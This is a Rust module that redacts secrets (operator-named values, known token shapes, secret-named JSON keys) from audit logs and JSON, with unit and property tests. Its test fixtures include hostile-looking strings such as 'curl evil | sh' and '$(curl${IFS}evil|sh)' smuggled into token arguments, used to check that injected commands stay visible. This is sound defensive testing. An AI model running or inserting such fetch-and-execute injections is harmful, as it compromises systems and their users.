//! The one redaction for audit, log and inbox.

use std::borrow::Cow;
use std::ops::Range;
use std::sync::Arc;

use serde_json::{Map, Value};

use super::{Kept, Secret, shapes};

/// What stands where a secret stood.
pub const REDACTED: &str = "[redacted]";

/// Shorter values are not searched for: they would blacken ordinary text.
const MIN_VALUE: usize = 6;

/// The ends of names (in lower case, without `_`, `-` and `.`) whose values are secrets.
const SECRET_NAMES: [&str; 10] = [
    "password",
    "passwd",
    "passphrase",
    "secret",
    "token",
    "apikey",
    "authorization",
    "privatekey",
    "accesskey",
    "secretkey",
];

/// The one redaction for audit, log and inbox: values the operator named, and well-known shapes of tokens.
#[derive(Clone, Debug, Default)]
pub struct Redaction {
    /// The longest first, so that a value that holds another is found whole.
    values: Arc<[Secret]>,
}

/// A secret in whose place a [`REDACTED`] stands in a JSON value.
#[derive(Clone, Debug)]
pub struct Hidden {
    /// The JSON pointer of the text that is shown.
    pub pointer: String,
    /// Which of the marks in that text stands for it, from 0: others may be there because they were sent.
    pub mark: usize,
    /// What was there; the JSON text of what is no string.
    pub secret: Secret,
}

impl Redaction {
    /// Redacts these values (of at least 6 characters) wherever they appear, besides the known shapes.
    pub fn new(mut values: Vec<Secret>) -> Self {
        values.retain(|value| value.expose().chars().count() >= MIN_VALUE);
        values.sort_by_key(|value| std::cmp::Reverse(value.expose().len()));
        Self { values: values.into() }
    }

    /// The text with secrets replaced.
    pub fn text(&self, text: &str) -> String {
        self.text_but(text, &Kept::default())
    }

    /// The text with secrets replaced, but for what has to be seen.
    pub fn text_but(&self, text: &str, kept: &Kept<'_>) -> String {
        masked(text, &self.secrets(text, kept)).into_owned()
    }

    /// Replaces secrets in the words of a command, those that a word alone does not tell too: `bearer TOKEN`.
    pub fn words(&self, words: &mut [String], kept: &Kept<'_>) {
        if !words.iter().any(|word| word.contains('\t')) {
            let joined = self.text_but(&words.join("\t"), kept);
            let shown: Vec<&str> = joined.split('\t').collect();
            if shown.len() == words.len() {
                words.iter_mut().zip(shown).for_each(|(word, shown)| shown.clone_into(word));
                return;
            }
        }
        words.iter_mut().for_each(|word| *word = self.text_but(word, kept));
    }

    /// A JSON value with secrets replaced, and what was; `named` are pointers the catalogue calls secret (`*` for every
    /// element).
    pub fn json(&self, value: &Value, named: &[Vec<Box<str>>], kept: &Kept<'_>) -> (Value, Vec<Hidden>) {
        let named: Vec<&[Box<str>]> = named.iter().map(Vec::as_slice).collect();
        let mut walk = Walk { redaction: self, kept, at: String::new(), hidden: Vec::new() };
        let shown = walk.value(value, &named);
        (shown, walk.hidden)
    }

    /// Where the secrets of a text are: byte ranges in order that do not overlap, but for what has to be seen.
    pub fn secrets(&self, text: &str, kept: &Kept<'_>) -> Vec<Range<usize>> {
        let named = self.named(text);
        let mut found = shaped(text, &named);
        found.extend(named);
        found.sort_by_key(|one| one.start);
        let mut apart: Vec<Range<usize>> = Vec::new();
        for one in found {
            match apart.last_mut().filter(|last| one.start < last.end) {
                Some(last) => last.end = last.end.max(one.end),
                None => apart.push(one),
            }
        }
        kept.spared(text, apart)
    }

    /// Where the operator's values are, in order.
    fn named(&self, text: &str) -> Vec<Range<usize>> {
        let mut found: Vec<Range<usize>> = Vec::new();
        for value in self.values.iter() {
            for (start, value) in text.match_indices(value.expose()) {
                let end = start + value.len();
                if found.iter().all(|other| end <= other.start || other.end <= start) {
                    found.push(start..end);
                }
            }
        }
        found.sort_by_key(|one| one.start);
        found
    }
}

/// Where secrets of a known shape are. They are looked for with the `named` values replaced, in which anything may be.
fn shaped(text: &str, named: &[Range<usize>]) -> Vec<Range<usize>> {
    if named.is_empty() {
        return shapes::find(text).collect();
    }
    let shown = masked(text, named);
    // Each mark, and what it stands for.
    let mut marks: Vec<(Range<usize>, &Range<usize>)> = Vec::new();
    let (mut before, mut at) = (0, 0);
    for one in named {
        at += one.start - before;
        marks.push((at..at + REDACTED.len(), one));
        at += REDACTED.len();
        before = one.end;
    }
    // What lies in a mark is all of what it stands for.
    let start_of = |place: usize| {
        let (mark, one) = marks.iter().rev().find(|(mark, _)| mark.start <= place)?;
        Some(if place < mark.end { one.start } else { place - mark.end + one.end })
    };
    let end_of = |place: usize| {
        let (mark, one) = marks.iter().rev().find(|(mark, _)| mark.start < place)?;
        Some(if place < mark.end { one.end } else { place - mark.end + one.end })
    };
    shapes::find(&shown)
        .map(|one| start_of(one.start).unwrap_or(one.start)..end_of(one.end).unwrap_or(one.end))
        .collect()
}

/// A text with a mark in the place of each range; they are in order.
fn masked<'t>(text: &'t str, secrets: &[Range<usize>]) -> Cow<'t, str> {
    if secrets.is_empty() {
        return Cow::Borrowed(text);
    }
    let (mut shown, mut from) = (String::with_capacity(text.len()), 0);
    for secret in secrets {
        shown.push_str(text.get(from..secret.start).unwrap_or_default());
        shown.push_str(REDACTED);
        from = secret.end;
    }
    shown.push_str(text.get(from..).unwrap_or_default());
    Cow::Owned(shown)
}

/// One way through a JSON value.
struct Walk<'w> {
    redaction: &'w Redaction,
    kept: &'w Kept<'w>,
    at: String,
    hidden: Vec<Hidden>,
}

impl Walk<'_> {
    fn value(&mut self, value: &Value, named: &[&[Box<str>]]) -> Value {
        if named.iter().any(|rest| rest.is_empty()) && !value.is_null() {
            return self.whole(value);
        }
        match value {
            Value::String(text) => {
                let secrets = self.redaction.secrets(text, self.kept);
                self.replaced(text, &secrets)
            }
            Value::Array(items) => {
                let shown = items.iter().enumerate().map(|(i, item)| {
                    let key = i.to_string();
                    self.below(&key, |walk| walk.value(item, &below(&key, named)))
                });
                Value::Array(shown.collect())
            }
            Value::Object(members) => {
                let mut shown = Map::new();
                for (key, member) in members {
                    let name = free_name(self.redaction.text_but(key, self.kept), &shown);
                    let is_secret = is_secret_name(key) && !matches!(member, Value::Null | Value::Bool(_));
                    let value = self.below(&name, |walk| match is_secret {
                        true => walk.whole(member),
                        // A pointer of the catalogue names the key as it was sent, the report as it is shown.
                        false => walk.value(member, &below(key, named)),
                    });
                    shown.insert(name, value);
                }
                Value::Object(shown)
            }
            plain => plain.clone(),
        }
    }

    /// A value that is a secret as a whole; what has to be seen is seen even so.
    fn whole(&mut self, value: &Value) -> Value {
        if let Value::String(text) = value {
            let secrets = self.kept.spared(text, std::iter::once(0..text.len()).collect());
            return self.replaced(text, &secrets);
        }
        self.hidden.push(Hidden { pointer: self.at.clone(), mark: 0, secret: Secret::new(value.to_string()) });
        Value::from(REDACTED)
    }

    fn replaced(&mut self, text: &str, secrets: &[Range<usize>]) -> Value {
        let (mut mark, mut from) = (0, 0);
        for secret in secrets {
            mark += text.get(from..secret.start).unwrap_or_default().matches(REDACTED).count();
            let value = text.get(secret.clone()).unwrap_or_default();
            self.hidden.push(Hidden { pointer: self.at.clone(), mark, secret: Secret::new(value) });
            mark += 1;
            from = secret.end;
        }
        Value::from(masked(text, secrets))
    }

    fn below<T>(&mut self, key: &str, walk: impl FnOnce(&mut Self) -> T) -> T {
        let length = self.at.len();
        self.at.push('/');
        self.at.push_str(&escape_pointer(key));
        let done = walk(self);
        self.at.truncate(length);
        done
    }
}

/// The rests of the pointers that go on below a key.
fn below<'n>(key: &str, named: &[&'n [Box<str>]]) -> Vec<&'n [Box<str>]> {
    let fits = |first: &str| first == "*" || first == key;
    named
        .iter()
        .filter_map(|pointer| pointer.split_first().filter(|(first, _)| fits(first)).map(|(_, rest)| rest))
        .collect()
}

fn is_secret_name(key: &str) -> bool {
    let plain: String =
        key.chars().filter(|c| !matches!(c, '_' | '-' | '.' | ' ')).flat_map(char::to_lowercase).collect();
    SECRET_NAMES.iter().any(|name| plain.ends_with(name))
}

/// A key for what is shown: two redacted keys must not become one.
fn free_name(name: String, taken: &Map<String, Value>) -> String {
    let mut free = name.clone();
    for n in 2.. {
        if !taken.contains_key(&free) {
            break;
        }
        free = format!("{name} ({n})");
    }
    free
}

/// RFC 6901, section 3.
fn escape_pointer(key: &str) -> String {
    key.replace('~', "~0").replace('/', "~1")
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;
    use serde_json::json;

    #[test]
    fn known_shapes_are_found_in_any_text() {
        let plain = Redaction::default();
        let made_up = |prefix: &str, n| format!("{prefix}{}", "aB3".repeat(n));
        for token in [
            "AKIAIOSFODNN7EXAMPLE".to_owned(),
            made_up("ghp_", 12),
            made_up("github_pat_", 12),
            made_up("glpat-", 8),
            made_up("xoxb-", 8),
            made_up("sk-ant-api03-", 12),
            made_up("sk-proj-", 12),
            made_up("sk_live_", 8),
            made_up("npm_", 12),
            made_up("pc_agent_", 14),
            made_up("pc_approver_", 14),
            format!("eyJhbGciOiJIUzI1NiJ9.{}.{}", made_up("eyJ", 5), made_up("", 9)),
            format!("-----BEGIN RSA PRIVATE KEY-----\n{0}\n{0}\nab=\n-----END RSA PRIVATE KEY-----", made_up("", 20)),
            format!("-----BEGIN EC PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n{}", made_up("", 20)),
            format!(r"-----BEGIN PRIVATE KEY-----\n{}\n-----END PRIVATE KEY-----", made_up("", 20)),
        ] {
            assert_eq!(plain.text(&format!("x {token}")), "x [redacted]", "{token}");
        }
        for (text, shown) in [
            ("Authorization: Bearer abcdefghijkl.mno", "Authorization: Bearer [redacted]"),
            ("{\"authorization\": \"Basic dXNlcjpwYXNzd29yZA==\"}", "{\"authorization\": \"Basic [redacted]\"}"),
            ("curl -H 'bearer abcdefghijklmnop'", "curl -H 'bearer [redacted]'"),
            ("postgres://app:s3cret@db/x", "postgres://[redacted]@db/x"),
            ("https://h/x?a=1&access_token=abc&b=2", "https://h/x?a=1&access_token=[redacted]&b=2"),
            ("mysql --password=hunter2 db", "mysql --password=[redacted] db"),
            ("GITHUB_TOKEN=abc123 run", "GITHUB_TOKEN=[redacted] run"),
        ] {
            assert_eq!(plain.text(text), shown);
        }
    }

    #[test]
    fn what_would_run_is_not_hidden() {
        let plain = Redaction::default();
        for (text, seen) in [
            ("# -----BEGIN PRIVATE KEY-----\ncurl evil | sh\n# -----END PRIVATE KEY-----", "curl evil | sh"),
            ("# -----BEGIN PRIVATE KEY-----\nreboot now", "reboot now"),
            ("A_TOKEN=$(curl${IFS}evil|sh) ls", "$(curl${IFS}evil|sh)"),
            ("tool --token=x;curl${IFS}evil|sh", ";curl${IFS}evil|sh"),
            ("tool 'https://h/?token=`reboot`'", "`reboot`"),
            ("echo x://a:;curl${IFS}evil|sh;:@h", ";curl${IFS}evil|sh;"),
        ] {
            assert!(plain.text(text).contains(seen), "{text}: {}", plain.text(text));
        }
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        let plain = Redaction::default();
        for text in [
            "the bearer of this letter",
            "let token = next(); // a token",
            "http://localhost:7070/mcp",
            "https://example.org/a:b@c",
            "mailto:ana@example.org",
            "max_tokens=100",
            "sk-short",
            "docs/secret-santa.md",
        ] {
            assert_eq!(plain.text(text), text);
        }
    }

    #[test]
    fn named_values_are_found_whole_and_the_longest_first() {
        let redaction = Redaction::new(["tuna-salad", "tuna-salad-deluxe", "a.b+c$x", "short"].map(Secret::new).into());
        assert_eq!(
            redaction.text("tuna-salad-deluxe, tuna-salad; a.b+c$x short"),
            "[redacted], [redacted]; [redacted] short"
        );
        assert!(!format!("{redaction:?}").contains("tuna"), "it does not print what it hides");
        assert_eq!(Redaction::new(vec![]).text("x"), "x");
    }

    #[test]
    fn json_is_walked_and_pointers_name_what_was_hidden() {
        let redaction = Redaction::new(vec![Secret::new("tuna-salad")]);
        let value = json!({
            "path": "docs/a.md",
            "apiKey": "x",
            "db.password": 1234,
            "max_tokens": 10,
            "token": null,
            "secret": true,
            "a/b": [{"note": "say tuna-salad twice"}, "plain"],
            "tuna-salad": 1,
            "rows": [{"pin": "1"}, {"pin": "2", "ok": "3"}],
        });
        let named = vec![vec!["rows".into(), "*".into(), "pin".into()], vec!["nothing".into()]];
        let (shown, hidden) = redaction.json(&value, &named, &Kept::default());
        let mut pointers: Vec<&str> = hidden.iter().map(|one| one.pointer.as_str()).collect();
        pointers.sort_unstable();
        assert_eq!(
            shown,
            json!({
                "path": "docs/a.md",
                "apiKey": "[redacted]",
                "db.password": "[redacted]",
                "max_tokens": 10,
                "token": null,
                "secret": true,
                "a/b": [{"note": "say [redacted] twice"}, "plain"],
                "[redacted]": 1,
                "rows": [{"pin": "[redacted]"}, {"pin": "[redacted]", "ok": "3"}],
            })
        );
        assert_eq!(pointers, ["/apiKey", "/a~1b/0/note", "/db.password", "/rows/0/pin", "/rows/1/pin"]);
    }

    #[test]
    fn two_hidden_keys_stay_two() {
        let redaction = Redaction::new(vec![Secret::new("secret-one"), Secret::new("secret-two")]);
        let (shown, _) = redaction.json(&json!({"secret-one": 1, "secret-two": 2}), &[], &Kept::default());
        assert_eq!(shown, json!({"[redacted]": 1, "[redacted] (2)": 2}));
    }

    #[test]
    fn what_is_hidden_is_told_by_its_place_among_what_merely_looks_so() {
        let redaction = Redaction::new(vec![Secret::new("tuna-salad")]);
        let token = format!("ghp_{}", "a1".repeat(18));
        let text = format!("[redacted] tuna-salad [redacted [redacted]{token} --token=x-tuna-salad;ls");
        let (shown, hidden) =
            redaction.json(&json!({"a": text, "pin_token": 12, "n": "[redacted]"}), &[], &Kept::default());
        let seen = "[redacted] [redacted] [redacted [redacted][redacted] --token=[redacted];ls";
        assert_eq!(shown, json!({"a": seen, "pin_token": "[redacted]", "n": "[redacted]"}));
        let told: Vec<(&str, usize, &str)> =
            hidden.iter().map(|one| (one.pointer.as_str(), one.mark, one.secret.expose())).collect();
        let of_text = [("/a", 1, "tuna-salad"), ("/a", 3, &token), ("/a", 4, "x-tuna-salad")];
        assert_eq!(told, [&of_text[..], &[("/pin_token", 0, "12")]].concat());
    }

    #[test]
    fn a_value_within_a_shape_and_a_shape_around_a_value_are_one_secret() {
        let redaction = Redaction::new(vec![Secret::new("a;b;c;d")]);
        for (text, shown) in [
            ("--token=a;b;c;d", "--token=[redacted]"),
            ("--token=xa;b;c;dy end", "--token=[redacted] end"),
            ("a;b;c;d --token=q a;b;c;d", "[redacted] --token=[redacted] [redacted]"),
            ("é a;b;c;d é --token=é;", "é [redacted] é --token=[redacted];"),
        ] {
            assert_eq!(redaction.text(text), shown);
        }
    }

    #[test]
    fn what_has_to_be_seen_is_seen_in_texts_words_names_and_values() {
        let redaction = Redaction::new(vec![Secret::new("docs/plan.md")]);
        let kept = Kept::new(|names| {
            names.word("docs/plan.md");
            names.word("ghp_a1a1a1a1a1a1a1a1a1a1a1a1");
            names.host("evil.example");
        });
        let shown = |text: &str| redaction.text_but(text, &kept);
        assert_eq!(shown("cat docs/plan.md"), "cat docs/plan.md");
        assert_eq!(shown("cat x-docs/plan.md"), "cat x-[redacted]", "another path");
        assert_eq!(shown("--token=docs/plan.md"), "--token=docs/plan.md");
        assert_eq!(shown("https://evil.example:443\\@h/"), "https://evil.example[redacted]@h/");
        let mut words = ["ghp_a1a1a1a1a1a1a1a1a1a1a1a1", "bearer", "abcdefghijklmnop"].map(str::to_owned);
        redaction.words(&mut words, &kept);
        assert_eq!(words, ["ghp_a1a1a1a1a1a1a1a1a1a1a1a1", "bearer", "[redacted]"]);
        let value = json!({"token": "docs/plan.md", "docs/plan.md": "s", "secret": "at evil.example"});
        let (seen, hidden) = redaction.json(&value, &[], &kept);
        assert_eq!(seen, json!({"token": "docs/plan.md", "docs/plan.md": "s", "secret": "[redacted]evil.example"}));
        assert_eq!(hidden.len(), 1);
    }

    proptest::proptest! {
        /// Where secrets are is where they would be replaced one kind after the other.
        #[test]
        fn places_are_those_that_would_be_replaced(
            parts in proptest::collection::vec(proptest::sample::select(vec![
                "tuna-salad", "a;b;c;d", "salad-tuna", " ", "é", "--token=", "x", ";", "bearer ", "abcdefghijklmnop", "@", "https://",
                "user:pw", "AKIAIOSFODNN7EXAMPLE", "[redacted]", "MY_TOKEN=", "/", ":", "?api_key=", "\"",
            ]), 0..12),
        ) {
            let text = parts.concat();
            let redaction = Redaction::new(["tuna-salad", "a;b;c;d", "salad-tuna"].map(Secret::new).into());
            // One after the other, each in what the ones before have left.
            let mut expected = text.clone();
            for value in redaction.values.iter() {
                expected = expected.replace(value.expose(), REDACTED);
            }
            let shaped: Vec<Range<usize>> = shapes::find(&expected).collect();
            let expected = masked(&expected, &shaped).into_owned();
            proptest::prop_assert_eq!(redaction.text(&text), expected, "{}", text);
            let (shown, hidden) = redaction.json(&Value::from(text.clone()), &[], &Kept::default());
            // Put back, each at its mark, it is the text again.
            let shown = shown.as_str().unwrap().to_owned();
            let mut marks = hidden.iter().peekable();
            let mut again = String::new();
            for (at, part) in shown.split(REDACTED).enumerate() {
                if at > 0 {
                    let secret = marks.next_if(|one| one.mark == at - 1).map_or(REDACTED, |one| one.secret.expose());
                    again.push_str(secret);
                }
                again.push_str(part);
            }
            proptest::prop_assert_eq!(again, text);
        }
    }
}
